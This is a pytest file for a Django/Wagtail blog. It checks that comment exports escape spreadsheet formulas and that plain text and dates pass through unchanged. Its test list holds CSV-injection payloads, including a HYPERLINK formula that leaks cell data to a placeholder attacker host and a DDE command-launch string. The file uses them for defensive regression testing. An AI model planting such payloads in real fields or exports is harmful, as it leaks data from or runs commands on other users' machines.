"""The moderation queue's CSV export holds what readers typed. A name or body written as a
formula (`=HYPERLINK(...)`) was written verbatim, and a moderator's spreadsheet ran it; now
every cell that starts like a formula is exported as text (a leading apostrophe)."""

import csv
import io

from django.contrib.auth import get_user_model
from django.urls import reverse

import pytest

from blog.factories import CommentFactory
from cms.csv_safety import spreadsheet_safe

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&B2, "Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def moderator_client(client, db):
    client.force_login(get_user_model().objects.create_superuser("mod", "mod@example.org", "pw"))
    return client


def exported_rows(client, export_format="csv") -> list[dict]:
    url = reverse("wagtailsnippets_blog_comment:list")
    response = client.get(url, {"export": export_format})
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(content)))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_comment_is_exported_as_text(moderator_client, article, formula):
    CommentFactory(article=article, name=formula, body=formula, affiliation="Psychology")
    [row] = exported_rows(moderator_client)
    assert row["Name"] == "'" + formula
    assert row["Body"] == "'" + formula
    assert row["Affiliation"] == "Psychology"  # plain text is left as it is


def test_ordinary_text_and_dates_are_unchanged(moderator_client, article):
    comment = CommentFactory(article=article, name="Maria Lopez", body="A 2-step plan = useful")
    [row] = exported_rows(moderator_client)
    assert row["Name"] == "Maria Lopez"
    assert row["Body"] == "A 2-step plan = useful"
    assert row["Status"] == "approved"
    assert row["Created"].startswith(str(comment.created.year))


def test_xlsx_keeps_a_formula_as_a_string(moderator_client, article):
    openpyxl = pytest.importorskip("openpyxl")
    CommentFactory(article=article, name=FORMULAS[0])
    url = reverse("wagtailsnippets_blog_comment:list")
    response = moderator_client.get(url, {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cell = sheet.cell(row=2, column=1)
    assert cell.value == FORMULAS[0]
    assert cell.data_type == "s"


@pytest.mark.parametrize(
    ("text", "safe"),
    [("=1", "'=1"), ("-", "'-"), ("", ""), ("Maria", "Maria"), ("a=1", "a=1"), ("'=1", "'=1")],
)
def test_spreadsheet_safe(text, safe):
    assert spreadsheet_safe(text) == safe
